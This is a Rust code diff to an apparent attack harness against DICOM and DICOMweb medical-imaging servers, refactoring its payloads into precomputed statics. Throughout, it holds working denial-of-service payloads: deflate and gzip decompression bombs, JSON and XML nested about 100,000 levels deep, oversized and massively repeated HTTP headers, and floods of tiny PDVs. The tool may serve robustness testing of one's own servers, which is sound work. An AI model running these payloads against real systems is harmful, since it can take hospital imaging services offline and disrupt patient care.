@@ -5,8 +5,8 @@
 
 use std::io::Write as _;
 use std::net::{Ipv4Addr, SocketAddr};
-use std::sync::Arc;
 use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::{Arc, LazyLock};
 use std::time::Duration;
 
 use flate2::Compression;
@@ -184,7 +184,7 @@ impl Attack {
             Self::Deflated => {
                 let mut peer = Association::open(target).await?;
                 peer.store(OF_CT_DEFLATED, number).await?;
-                peer.data(OF_CT_DEFLATED, &deflated_zeros(), true).await?;
+                peer.data(OF_CT_DEFLATED, &DEFLATED_ZEROS, true).await?;
                 peer.answer().await
             }
             Self::Gzip => gzip(target).await,
@@ -237,9 +237,8 @@ impl Attack {
             Self::TinyPdvs => {
                 let mut peer = Association::open(target).await?;
                 peer.store(OF_CT, number).await?;
-                let some = [pdv(OF_CT, 0, &[8]), pdv(OF_CT, 0, &[])].concat().repeat(5_000);
                 for _ in 0..40 {
-                    peer.stream.write_all(&some).await?;
+                    peer.stream.write_all(&TINY_PDVS).await?;
                 }
                 Ok(())
             }
@@ -432,29 +431,26 @@ fn zeros_into(mut write: impl FnMut(&[u8])) {
     }
 }
 
-/// A gigabyte of zeros in Explicit VR Little Endian, deflated: some MiB. Made once.
-fn deflated_zeros() -> Vec<u8> {
-    static MADE: std::sync::OnceLock<Vec<u8>> = std::sync::OnceLock::new();
-    let made = MADE.get_or_init(|| {
-        let mut encoder = DeflateEncoder::new(Vec::new(), Compression::fast());
-        zeros_into(|zeros| encoder.write_all(zeros).expect("memory takes it"));
-        encoder.finish().expect("memory takes it")
-    });
-    made.clone()
-}
+// What is sent again and again is made once: an attacker of a machine of its own takes no time of this one to make it.
 
-fn gzipped_blanks() -> Vec<u8> {
-    static MADE: std::sync::OnceLock<Vec<u8>> = std::sync::OnceLock::new();
-    let made = MADE.get_or_init(|| {
-        let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
-        encoder.write_all(b"[").expect("memory takes it");
-        for _ in 0..1024 {
-            encoder.write_all(&[b' '; 1 << 20]).expect("memory takes it");
-        }
-        encoder.finish().expect("memory takes it")
-    });
-    made.clone()
-}
+static TINY_PDVS: LazyLock<Vec<u8>> =
+    LazyLock::new(|| [pdv(OF_CT, 0, &[8]), pdv(OF_CT, 0, &[])].concat().repeat(5_000));
+
+/// A gigabyte of zeros in Explicit VR Little Endian, deflated: some MiB.
+static DEFLATED_ZEROS: LazyLock<Vec<u8>> = LazyLock::new(|| {
+    let mut encoder = DeflateEncoder::new(Vec::new(), Compression::fast());
+    zeros_into(|zeros| encoder.write_all(zeros).expect("memory takes it"));
+    encoder.finish().expect("memory takes it")
+});
+
+static GZIPPED_BLANKS: LazyLock<Vec<u8>> = LazyLock::new(|| {
+    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
+    encoder.write_all(b"[").expect("memory takes it");
+    for _ in 0..1024 {
+        encoder.write_all(&[b' '; 1 << 20]).expect("memory takes it");
+    }
+    encoder.finish().expect("memory takes it")
+});
 
 async fn post(target: Target, path: &str, fields: &str, body: &[u8]) -> std::io::Result<()> {
     let mut stream = connect(target.http).await?;
@@ -470,24 +466,33 @@ async fn post(target: Target, path: &str, fields: &str, body: &[u8]) -> std::io:
 
 async fn gzip(target: Target) -> std::io::Result<()> {
     let fields = "Content-Type: application/dicom+json\r\nContent-Encoding: gzip\r\n";
-    post(target, "/dicom-web/workitems", fields, &gzipped_blanks()).await
+    post(target, "/dicom-web/workitems", fields, &GZIPPED_BLANKS).await
 }
 
-async fn documents(target: Target, number: usize) -> std::io::Result<()> {
-    const BOUNDARY: &str = "B";
-    let (kind, document) = match number % 3 {
-        0 => (
+const BOUNDARY: &str = "B";
+
+/// Media types, and bodies of parts of them.
+static DOCUMENTS: LazyLock<[(&str, String); 3]> = LazyLock::new(|| {
+    let documents = [
+        (
             "application/dicom+json",
             "[{\"00081140\":{\"vr\":\"SQ\",\"Value\":".repeat(100_000),
         ),
-        1 => ("application/dicom+json", "[".repeat(4_000_000)),
-        _ => (
+        ("application/dicom+json", "[".repeat(4_000_000)),
+        (
             "application/dicom+xml",
             "<NativeDicomModel><DicomAttribute tag=\"00081140\" vr=\"SQ\"><Item number=\"1\">".to_owned()
                 + &"<DicomAttribute tag=\"00081140\" vr=\"SQ\"><Item number=\"1\">".repeat(100_000),
         ),
-    };
-    let body = format!("--{BOUNDARY}\r\nContent-Type: {kind}\r\n\r\n{document}\r\n--{BOUNDARY}--\r\n");
+    ];
+    documents.map(|(kind, document)| {
+        let body = format!("--{BOUNDARY}\r\nContent-Type: {kind}\r\n\r\n{document}\r\n--{BOUNDARY}--\r\n");
+        (kind, body)
+    })
+});
+
+async fn documents(target: Target, number: usize) -> std::io::Result<()> {
+    let (kind, body) = &DOCUMENTS[number % 3];
     let fields = format!("Content-Type: multipart/related; type=\"{kind}\"; boundary={BOUNDARY}\r\n");
     post(target, "/dicom-web/studies", &fields, body.as_bytes()).await
 }
@@ -584,14 +589,17 @@ async fn wild_cards(target: Target, number: usize) -> std::io::Result<()> {
     }
 }
 
+static HEADERS: LazyLock<[String; 2]> = LazyLock::new(|| {
+    let fields = [
+        format!("X-A: {}\r\n", "a".repeat(1 << 20)),
+        "X-A: b\r\n".repeat(10_000),
+    ];
+    fields.map(|fields| format!("GET / HTTP/1.1\r\nHost: a\r\n{fields}\r\n"))
+});
+
 async fn header_fields(target: Target, number: usize) -> std::io::Result<()> {
-    let fields = match number % 2 {
-        0 => format!("X-A: {}\r\n", "a".repeat(1 << 20)),
-        _ => "X-A: b\r\n".repeat(10_000),
-    };
     let mut stream = connect(target.http).await?;
-    let request = format!("GET / HTTP/1.1\r\nHost: a\r\n{fields}\r\n");
-    let _ = stream.write_all(request.as_bytes()).await;
+    let _ = stream.write_all(HEADERS[number % 2].as_bytes()).await;
     stream.read(&mut [0; 512]).await.map(drop)
 }
 
